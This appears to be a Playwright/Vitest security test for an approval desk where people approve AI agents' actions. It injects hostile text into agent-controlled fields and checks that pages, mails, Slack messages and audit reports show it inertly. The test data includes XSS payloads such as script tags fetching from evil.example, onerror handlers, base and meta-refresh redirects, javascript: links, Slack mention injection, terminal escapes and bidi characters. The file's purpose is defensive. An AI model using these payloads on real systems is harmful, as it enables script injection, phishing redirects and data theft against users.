/**
 * Hostile text in every field that an agent (or what it read) controls, everywhere that people see it, in Chromium: markup, markdown, Slack's
 * mentions, terminal sequences, text that runs backwards, lines of 60 kB. Nothing runs, nothing is loaded, no element is added, and the
 * text itself is there to be read.
 */
import type { Browser, BrowserContext } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
import { createApp } from "../../lambdas/approval-desk/app.js";
import { approvalMail, followUpMail } from "../../lib/approval/mails.js";
import { readQuestion, stateOf } from "../../lib/approval/question.js";
import { reportHtml } from "../../lib/audit/report/report.js";
import type { Session } from "../../lib/aws/sessions.js";
import { verifyEvents } from "../../lib/client/verify.js";
import { consoleApp } from "../../lib/local/console/app.js";
import type { MailRow } from "../../lib/local/console/pages.js";
import { messageBlocks } from "../../lib/local/slack/limits.js";
import type { ApprovalView } from "../../lib/run/protocol.js";
import { SESSION_COOKIE } from "../../lib/sign-in/session.js";
import { askedMessage } from "../../lib/slack/messages.js";
import { act, lookedUp } from "../run/support.js";
import { chromiumPath, launchBrowser } from "../support/browser.js";
import { type App, type Served, serveTo } from "../support/served.js";
import { Desk } from "./desk-in-memory.js";

const ana = "ana@example.com";
const EVIL = "https://evil.example";
const MARKUP = [
  `<script id=owned1>owned=1;fetch("${EVIL}/s")</script>`,
  `"'><img id=owned2 src=${EVIL}/i onerror="owned=1"><svg id=owned3 onload="owned=1">`,
  `</textarea></title></style></pre></code></form><base href=${EVIL}><meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<form id=owned4 action=${EVIL}><button name=decision value=approve>`,
  "&lt;b id=owned5&gt; &#60;b id=owned6&#62; <!--[if mso]><b id=owned7><![endif]-->",
].join("");
const SLACK = "<!channel> <!here|here> <@U0ANA> <#C0CHANNEL> *bold* _it_ ~no~ `code` > quote :tada:";
const MARKDOWN = `[click](javascript:owned=1) ![x](${EVIL}/m) **bold** <${EVIL}/auto> # head\n| a | b |\n|---|---|`;
const TERMINAL = "\u001b[2J\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u0007\u009b31m";
const BACKWARDS = "\u202Eeur 0024 dnufeR\u202C \u2066a\u2069 \u200B\u200D\uFEFF\u00AD مرحبا \u{E0069}\u{E0067}";
/** Some of each, where a field is short. */
const SHORT = `<script id=owned1>owned=1</script><img id=owned2 src=x onerror=owned=1> <!channel> <@U0ANA> <${EVIL}|bank> [c](javascript:owned=1) \u202E\u200B\u001b[31m`;
const ATTACKS: readonly (readonly [string, string])[] = [
  ["everything at once", [MARKUP, MARKDOWN, SLACK, `<${EVIL}/x|your bank>`, TERMINAL, BACKWARDS].join("\n")],
  ["a line of 60 kB", `${"long".repeat(15_000)}${MARKUP}`],
];

/** Turns a line round, steers a terminal, or is not seen. */
const HIDDEN = /(?![\n\t])[\p{Cc}\p{Cf}]/u;

/** In each field that an agent, or what it read, fills. */
function viewOf(text: string): Partial<ApprovalView> {
  const short = SHORT;
  return {
    title: `Refund ${short}`,
    args: { charge_id: short, [`key ${short}`]: text.length > 10_000 ? text : [text, { [short]: text }] },
    preview: {
      before: { [short]: short, note: text },
      after: { [short]: `${short}!`, note: `${text}!` },
      notes: [text],
    },
    says: text,
    typed_confirmation: "420.00",
    based_on: [{ tool: "zendesk.get_ticket", subject: short, at: "2026-11-21T12:59:00.000Z", untrusted: true }],
    slack_users: { [ana]: "U0ANA" },
  };
}

const SESSION: Session = {
  email: ana,
  subject: "https://login.example.com|ana",
  timeZone: "Europe/Berlin",
  csrf: "c".repeat(24),
  expiresMs: Number.MAX_SAFE_INTEGER,
};
const never = () => Promise.reject(new Error("not here"));
const signedIn = ({ ref }: Desk): Parameters<typeof createApp>[1] => ({
  oidc: { begin: never, finish: never },
  sessions: {
    insertPending: never,
    takePending: never,
    insertSession: never,
    endSession: never,
    readSession: async () => SESSION,
  },
  inbox: { asked: async (_person, which) => (which === "waiting" ? [ref] : []) },
});

const NOT_OURS = [
  "[id^=owned]",
  "script",
  "img",
  "object",
  "embed",
  "base",
  "meta[http-equiv=refresh]",
  "a[href^='javascript:' i]",
  `form[action^='${EVIL}']`,
].join(",");

beforeEach(() => void vi.spyOn(console, "log").mockImplementation(() => {}));

describe.skipIf(chromiumPath === undefined)("in Chromium", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser(chromiumPath ?? "");
  });
  afterAll(() => browser.close());

  /** Opens it, and everything that is folded on it. @returns what is there to be read */
  async function look(context: BrowserContext, served: Served, url: string): Promise<string> {
    const page = await context.newPage();
    await page.goto(url);
    await page.evaluate("for (const part of document.querySelectorAll('details')) part.open = true");
    expect(await page.locator(NOT_OURS).count(), url).toBe(0);
    expect(await page.evaluate("typeof globalThis.owned"), url).toBe("undefined");
    const frames = page.frames().filter((frame) => frame !== page.mainFrame());
    for (const frame of frames) {
      expect(new URL(frame.url()).origin, url).toBe(new URL(url).origin);
      expect(await frame.locator(NOT_OURS).count(), url).toBe(0);
    }
    expect([served.foreign, served.signs], url).toEqual([[], []]);
    const text = await page.locator("body").innerText();
    await page.close();
    return text;
  }

  test.each(ATTACKS)(
    "%s: on the page, signed in, in the mail, in Slack's message and in the console",
    async (_, text) => {
      const desk = await new Desk(viewOf(text)).ask();
      await desk.post(desk.wayOf(ana).path, { decision: "reject", comment: text.slice(0, 2000), code: "AAAA" });
      const question = await readQuestion(desk.deps, desk.ref);
      const way = { url: `https://desk.example${desk.wayOf(ana).path}`, code: "ABCDEFGH" };
      const mails = [
        ...desk.mails,
        approvalMail({ to: ana, view: desk.view, ...way, lead: "Reminder: 2 h left." }),
        followUpMail(ana, question, stateOf(question, desk.nowMs)),
      ];
      const rows = mails.map(
        (mail, index): MailRow => ({ ...mail, to: [mail.to], id: `m${index}`, at: "2026-11-21T13:00:00.000Z" }),
      );
      const message = askedMessage(desk.view, `https://desk.example${desk.wayOf(ana).path}`);
      const blocks = messageBlocks.parse(message.blocks);
      const events = lookedUp().events;
      const local = consoleApp({
        stage: "dev",
        runs: async () => [],
        run: async () => ({ events, verdict: text.slice(0, 500) }),
        report: async () => undefined,
        waiting: async () => [
          {
            approvalId: desk.ref.approvalId,
            title: desk.view.title,
            runId: desk.view.run_id,
            approvers: [ana],
            needed: 1,
            approvedBy: [],
            deadline: desk.view.deadline,
            moments: [],
          },
        ],
        mails: () => rows,
        slack: () => ({
          members: [{ id: "U0ANA", name: ana }],
          list: () => [{ to: "U0ANA", channel: "D0ANA", ts: "1.1", text: message.text, blocks, updates: 0 }],
          press: never,
          modal: () => undefined,
          submit: never,
          dismiss: () => {},
        }),
      });
      // A mail program that takes every element and script for good: the mail itself must hold none.
      const careless = {
        request: (url: string) =>
          new Response(rows[Number(new URL(url).pathname.slice(1))]?.html, {
            headers: { "content-type": "text/html" },
          }),
      };
      const app = createApp(desk.deps, signedIn(desk));
      const signedInDesk: App = {
        request: (url, init) =>
          app.request(url, { ...init, headers: { ...init.headers, cookie: `${SESSION_COOKIE}=${"s".repeat(43)}` } }),
      };
      const context = await browser.newContext();
      const origins: ReadonlyMap<string, App> = new Map<string, App>([
        ["https://desk.example", signedInDesk],
        ["http://127.0.0.1", local],
        ["https://mail.example", careless],
      ]);
      const served = await serveTo(context, origins);
      const see = (url: string) => look(context, served, url);
      const onPage = await see(`https://desk.example${desk.wayOf(ana).path}`);
      const inside = await see(`https://desk.example/inbox/${desk.ref.workflow}/${desk.ref.approvalId}`);
      await see("https://desk.example/inbox");
      for (const path of [
        "/",
        "/mailbox",
        "/mailbox/slack/1.1",
        ...rows.map(({ id }) => `/mailbox/${id}`),
        "/console/runs/w/t/r",
      ])
        await see(`http://127.0.0.1${path}`);
      for (const at of rows.keys()) await see(`https://mail.example/${at}`);
      await context.close();

      for (const shown of [onPage, inside]) expect(shown).toContain("<script id=owned1>");
      // Nothing turns a line round or hides: what does is written out.
      for (const shown of [onPage, inside]) expect(shown).not.toMatch(HIDDEN);
      if (text.includes(BACKWARDS)) expect(onPage).toContain("U+202E");
      // In mrkdwn Slack reads these as mentions and links; escaped it shows them.
      for (const mrkdwn of JSON.stringify(message.blocks).match(/\{"type":"mrkdwn"[^}]*\}/g) ?? [])
        expect(mrkdwn).not.toMatch(/<(?:!|@|#|https:\/\/evil)/);
      expect(message.text).not.toMatch(/<(?:!|@|#|https:\/\/evil)/);
    },
    120_000,
  );

  test("the report of a run in which an agent and a person wrote all that", async () => {
    for (const [, text] of ATTACKS) {
      const world = lookedUp();
      const memo = text.slice(0, 200);
      world.propose(
        act("stripe.refund", { charge_id: "ch_77", amount_cents: 42_000, memo }, { rationale: text.slice(0, 2000) }),
      );
      expect(world.last, JSON.stringify(world.events.at(-1)?.data).slice(0, 1500)).toMatchObject({ decision: "ask" });
      world.decides(ana, "reject", { comment: text.slice(0, 2000) }).approval();
      world.propose({ kind: "finish", outcome: "escalated", summary: text.slice(0, 500) });
      const verdict = await verifyEvents([world.events]);
      const policies = { texts: new Map([["p", { reason: text.slice(0, 300), text }]]), setHash: null };
      const html = reportHtml({ events: world.events, policies, verdict, madeAt: "2026-11-21T17:00:00.000Z" });
      const context = await browser.newContext();
      const report = { request: () => new Response(html, { headers: { "content-type": "text/html" } }) };
      const served = await serveTo(context, new Map([["https://report.example", report]]));
      const shown = await look(context, served, "https://report.example/");
      expect(shown).not.toMatch(HIDDEN);
      await context.close();
    }
  }, 120_000);
});
